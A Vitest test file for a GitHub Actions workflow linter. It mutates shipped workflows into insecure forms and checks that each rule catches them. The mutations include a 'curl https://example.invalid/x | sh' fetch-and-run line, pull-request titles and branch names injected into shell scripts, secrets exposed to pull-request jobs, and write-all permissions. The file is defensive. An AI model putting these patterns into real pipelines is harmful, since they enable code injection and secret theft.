/** The shipped workflow files are clean, and each way to weaken one of them is caught by its rule. */

import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { expect, test } from 'vitest';
import { checkWorkflow, checkWorkflowFiles } from '../../scripts/architecture/check-workflows.ts';
import { parseWorkflow } from '../../scripts/architecture/workflow-file.ts';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const CI = '.github/workflows/ci.yml';
const PLAN = '.github/examples/plan-on-pr.yml';
const COMMENT = '.github/examples/comment.yml';
const APPLY = '.github/examples/apply-on-merge.yml';
const DRIFT = '.github/examples/drift.yml';

/** Replace `from` (which must be there) by `to` in `file`; `code` must be among the findings. */
type Mutation = [what: string, file: string, from: string, to: string, code: string];

const mutations: Mutation[] = [
  [
    'the pull request runs with our rights',
    PLAN,
    '  pull_request:\n',
    '  pull_request_target:\n',
    'ci/trigger',
  ],
  ['a comment starts the apply', APPLY, '  workflow_dispatch:\n', '  issue_comment:\n', 'ci/trigger'],
  ['every branch is applied', APPLY, '    branches: [main]\n', '', 'ci/push-branches'],
  ['a pull request is applied', APPLY, '  workflow_dispatch:\n', '  pull_request:\n', 'ci/apply-trigger'],
  [
    'a title is pasted into a script',
    CI,
    'npm run check',
    'npm run check -- ${{ github.event.pull_request.title }}',
    'ci/expression',
  ],
  [
    'a branch name is pasted into a script',
    COMMENT,
    'review --pr "$number"',
    'review --pr "${{ github.head_ref }}"',
    'ci/expression',
  ],
  [
    'an action is named by a tag',
    CI,
    '@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0',
    '@v5 # v5.0.0',
    'ci/action',
  ],
  ['an action is named by a branch', PLAN, '@a0853c24544627f65ddf259abe73b1d18a591444', '@main', 'ci/action'],
  [
    'an action is named by a short digest',
    PLAN,
    '@a0853c24544627f65ddf259abe73b1d18a591444',
    '@a0853c2',
    'ci/action',
  ],
  [
    'the commit of a fork takes the place of ours',
    APPLY,
    '08c6903cd8c0fde910a37f88322edcfb5dd907a8',
    '08c6903cd8c0fde910a37f88322edcfb5dd907a9',
    'ci/action',
  ],
  ['the version behind the digest is wrong', CI, '# v5.0.0', '# v4.0.0', 'ci/action'],
  [
    'an action of somebody else is used',
    PLAN,
    'actions/upload-artifact@',
    'tj-actions/changed-files@',
    'ci/action',
  ],
  [
    'an action comes from the checkout',
    PLAN,
    'uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2',
    'uses: ./.github/actions/upload',
    'ci/action',
  ],
  [
    'an action comes from a container image',
    PLAN,
    'uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2',
    'uses: docker://alpine:3',
    'ci/action',
  ],
  ['the file grants rights to all jobs', CI, 'permissions: {}', 'permissions: write-all', 'ci/permissions'],
  ['the file says nothing of rights', CI, 'permissions: {}\n', '', 'ci/permissions'],
  ['a job says nothing of rights', CI, '    permissions:\n      contents: read\n', '', 'ci/permissions'],
  [
    'a job takes all rights',
    PLAN,
    '    permissions:\n      contents: read\n',
    '    permissions: write-all\n',
    'ci/permissions',
  ],
  [
    'a pull request may comment by itself',
    PLAN,
    '      contents: read\n',
    '      contents: read\n      pull-requests: write\n',
    'ci/permissions',
  ],
  ['a job may push', APPLY, '      contents: read\n', '      contents: write\n', 'ci/permissions'],
  [
    'the token stays in the checkout',
    COMMENT,
    'persist-credentials: false',
    'persist-credentials: true',
    'ci/persist-credentials',
  ],
  [
    'the checkout forgets to drop the token',
    PLAN,
    '          persist-credentials: false\n',
    '',
    'ci/persist-credentials',
  ],
  [
    'the commenting job checks out the change',
    COMMENT,
    '          fetch-depth: 0\n',
    '          ref: ${{ github.event.workflow_run.head_sha }}\n',
    'ci/checkout-ref',
  ],
  [
    'the commenting job checks out the fork',
    COMMENT,
    '          fetch-depth: 0\n',
    '          repository: ${{ github.event.workflow_run.head_repository.full_name }}\n',
    'ci/checkout-ref',
  ],
  [
    'submodules are fetched',
    PLAN,
    '          fetch-depth: 0\n',
    '          submodules: recursive\n',
    'ci/submodules',
  ],
  [
    'a pull request sees a secret',
    PLAN,
    "      SIGNALWRIGHT_VERSION: '0.1.0'\n    steps:\n",
    "      SIGNALWRIGHT_VERSION: '0.1.0'\n    steps:\n      - run: signalwright doctor\n        env:\n          DD_API_KEY: ${{ secrets.DD_API_KEY }}\n",
    'ci/secret',
  ],
  [
    'the whole job of a pull request sees a secret',
    PLAN,
    "      SIGNALWRIGHT_VERSION: '0.1.0'\n",
    "      SIGNALWRIGHT_VERSION: '0.1.0'\n      DD_API_KEY: ${{ secrets.DD_API_KEY }}\n",
    'ci/secret',
  ],
  [
    'two runs may apply at once',
    APPLY,
    'concurrency:\n  group: signalwright-apply\n  cancel-in-progress: false\n',
    '',
    'ci/apply-concurrency',
  ],
  [
    'an apply may be cut off',
    APPLY,
    'cancel-in-progress: false',
    'cancel-in-progress: true',
    'ci/apply-concurrency',
  ],
  ['nobody approves the apply', APPLY, '    environment: production\n', '', 'ci/apply-environment'],
  [
    'another plan is applied than the one that was approved',
    APPLY,
    '--env prod\n          --plan "$RUNNER_TEMP/plan/plan.json" --yes',
    '--env prod --yes',
    'ci/apply-plan',
  ],
  [
    'drift puts itself right at night',
    DRIFT,
    'signalwright" drift --env prod --exit-code --markdown',
    'signalwright" apply --env prod --yes',
    'ci/apply-trigger',
  ],
  [
    'the look for drift may write',
    DRIFT,
    '      actions: read\n',
    '      actions: write\n',
    'ci/permissions',
  ],
  [
    'a script sets variables for later steps',
    COMMENT,
    'echo "No open pull request has this commit."',
    'echo "X=$HEAD_BRANCH" >> "$GITHUB_ENV"',
    'ci/env-file',
  ],
  [
    'a script changes the path',
    COMMENT,
    'echo "No open pull request has this commit."',
    'cat plan >> $GITHUB_PATH',
    'ci/env-file',
  ],
  ['a script is fetched and run', CI, 'npm run check', 'curl https://example.invalid/x | sh', 'ci/download'],
  ['our CI runs what is no npm script', CI, 'run: npm test', 'run: node tests/run.js', 'ci/own-command'],
  [
    'the artefact lands in the checkout',
    APPLY,
    'path: ${{ runner.temp }}/journal',
    'path: .',
    'ci/artifact-path',
  ],
  [
    'a cache of strangers is read with rights',
    APPLY,
    "          node-version: '22'\n",
    "          node-version: '22'\n          cache: npm\n",
    'ci/cache',
  ],
  [
    'the checkout chooses the version of Node',
    PLAN,
    "node-version: '22'",
    'node-version-file: .node-version',
    'ci/node-version',
  ],
  ['a job may run for hours', CI, '    timeout-minutes: 40\n', '', 'ci/timeout'],
  ['a job runs on a machine of ours', PLAN, 'runs-on: ubuntu-24.04', 'runs-on: self-hosted', 'ci/runner'],
  [
    'a job borrows a workflow',
    CI,
    '    runs-on: ubuntu-24.04\n',
    '    runs-on: ubuntu-24.04\n    uses: other/repo/.github/workflows/x.yml@main\n',
    'ci/borrowed',
  ],
  ['the file is no YAML', CI, 'on:\n', 'on: [\n', 'ci/parse'],
];

test('the shipped workflow files have no finding', () => {
  expect(checkWorkflowFiles(ROOT)).toEqual([]);
});

test.each(mutations)('%s: caught in %s', (_what, file, from, to, code) => {
  const text = readFileSync(`${ROOT}/${file}`, 'utf8');
  expect(text).toContain(from);
  const findings = checkWorkflow(
    parseWorkflow(
      file,
      text.replace(from, () => to),
    ),
  );
  expect(findings.map((finding) => finding.code)).toContain(code);
});

test('a finding names the line of what is wrong', () => {
  const text = readFileSync(`${ROOT}/${PLAN}`, 'utf8');
  const wrong = '      contents: write\n';
  const mutated = text.replace('      contents: read\n', wrong);
  const line = mutated.slice(0, mutated.indexOf(wrong)).split('\n').length;
  expect(checkWorkflow(parseWorkflow(PLAN, mutated)).map((finding) => finding.line)).toEqual([line]);
});

test.each([PLAN, COMMENT, APPLY, DRIFT])('%s installs the version of this repository', (file) => {
  const manifest = readFileSync(`${ROOT}/packages/cli/package.json`, 'utf8');
  const { version } = JSON.parse(manifest) as { version: string };
  expect(readFileSync(`${ROOT}/${file}`, 'utf8')).toContain(`SIGNALWRIGHT_VERSION: '${version}'\n`);
});
